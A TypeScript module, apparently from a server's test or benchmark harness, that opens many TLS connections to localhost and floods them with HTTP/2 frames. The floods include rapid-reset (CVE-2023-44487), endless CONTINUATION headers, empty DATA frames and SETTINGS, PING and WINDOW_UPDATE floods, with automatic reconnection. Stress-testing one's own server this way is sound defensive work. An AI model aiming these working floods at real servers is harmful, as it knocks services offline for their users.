// Connections that flood a server with frames of HTTP/2 that cost more to take than to send, as fast as it takes them. One
// that is ended comes again a moment later.
import { connect } from 'node:tls'
import { fieldBlock, Flag, frame, FrameType, getLines } from '../../../testing/http2-frames.ts'
import { pause } from '../../../bench/wait.ts'
import { nextTurn } from '../../../src/base/clock.ts'
import type { CrowdCounts, CrowdPlan, StartCrowd } from './crowd.ts'

const pieceBytes = 65_536
const awayMs = 250
const cancel = 8

/** What is sent: `first` once, then `rest` again and again; undefined: the connection is ended after `first`. */
interface Flood {
  readonly first: Buffer
  readonly rest: Buffer | undefined
}

const preface = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(FrameType.settings, 0, 0),
])
const number = (value: number): Buffer => Buffer.from([value >>> 24, value >>> 16, value >>> 8, value])
const many = (octets: Buffer): Buffer =>
  Buffer.concat(Array.from({ length: Math.ceil(pieceBytes / octets.length) }, () => octets))

/** Requests that are cancelled as soon as they are made (CVE-2023-44487). */
function rapidReset(path: string): Flood {
  const block = fieldBlock(getLines(path, 'localhost'))
  const requests = Array.from({ length: 20_000 }, (_, i) => [
    frame(FrameType.headers, Flag.endHeaders | Flag.endStream, 2 * i + 1, block),
    frame(FrameType.rstStream, 0, 2 * i + 1, number(cancel)),
  ])
  return { first: Buffer.concat(requests.flat()), rest: undefined }
}

/** A head that does not end (RFC 9113 §6.10), in small pieces. */
function continuation(path: string): Flood {
  const more = fieldBlock([['x-more', 'x'.repeat(50)]])
  return {
    first: frame(FrameType.headers, Flag.endStream, 1, fieldBlock(getLines(path, 'localhost'))),
    rest: many(frame(FrameType.continuation, 0, 1, more)),
  }
}

/** A body of which only empty frames come (CVE-2019-9518). */
function emptyData(path: string): Flood {
  const block = fieldBlock(getLines(path, 'localhost', 'POST'))
  return {
    first: frame(FrameType.headers, Flag.endHeaders, 1, block),
    rest: many(frame(FrameType.data, 0, 1)),
  }
}

const nothing = Buffer.alloc(0)
const initialWindowSize = Buffer.from([0, 4, 0, 1, 0, 0])

/** The floods, by name. */
export const floods = {
  'rapid-reset': rapidReset,
  settings: () => ({ first: nothing, rest: many(frame(FrameType.settings, 0, 0, initialWindowSize)) }),
  ping: () => ({ first: nothing, rest: many(frame(FrameType.ping, 0, 0, Buffer.alloc(8))) }),
  continuation,
  'empty-data': emptyData,
  'window-updates': () => ({ first: nothing, rest: many(frame(FrameType.windowUpdate, 0, 0, number(1))) }),
} as const satisfies Record<string, (path: string) => Flood>

export type FloodName = keyof typeof floods

/** A crowd that floods. */
export const flood =
  (name: FloodName): StartCrowd =>
  async (plan, counts) => {
    const content = floods[name](plan.path)
    for (let i = 0; i < plan.count; i++) void again(plan, content, counts)
    while (counts.opened < plan.count) await pause(10)
  }

async function again(plan: CrowdPlan, content: Flood, counts: CrowdCounts): Promise<never> {
  for (;;) {
    await one(plan, content, counts)
    await pause(awayMs)
  }
}

/** One connection, from its handshake to its end. */
function one({ port }: CrowdPlan, { first, rest }: Flood, counts: CrowdCounts): Promise<void> {
  const ended = Promise.withResolvers<void>()
  const options = { port, host: '127.0.0.1', servername: 'localhost', rejectUnauthorized: false }
  const socket = connect({ ...options, ALPNProtocols: ['h2'] })
  const state = { isOpen: false }
  const write = async (octets: Buffer): Promise<void> => {
    socket.write(octets)
    do await new Promise<void>(nextTurn)
    while (state.isOpen && socket.writableLength > 0)
    counts.sentBytes += octets.length
  }
  const send = async (): Promise<void> => {
    await write(preface)
    for (let at = 0; at < first.length && state.isOpen; at += pieceBytes)
      await write(first.subarray(at, at + pieceBytes))
    if (rest === undefined) socket.end()
    else while (state.isOpen) await write(rest)
  }
  socket.once('secureConnect', () => {
    state.isOpen = true
    counts.open++
    counts.opened++
    void send()
  })
  // Answers are read, so that the server has no reason to wait.
  socket.on('data', (chunk: Buffer) => (counts.readBytes += chunk.length))
  socket.on('error', () => socket.destroy())
  socket.once('close', () => {
    if (state.isOpen) counts.open--
    state.isOpen = false
    counts.ended++
    ended.resolve()
  })
  return ended.promise
}
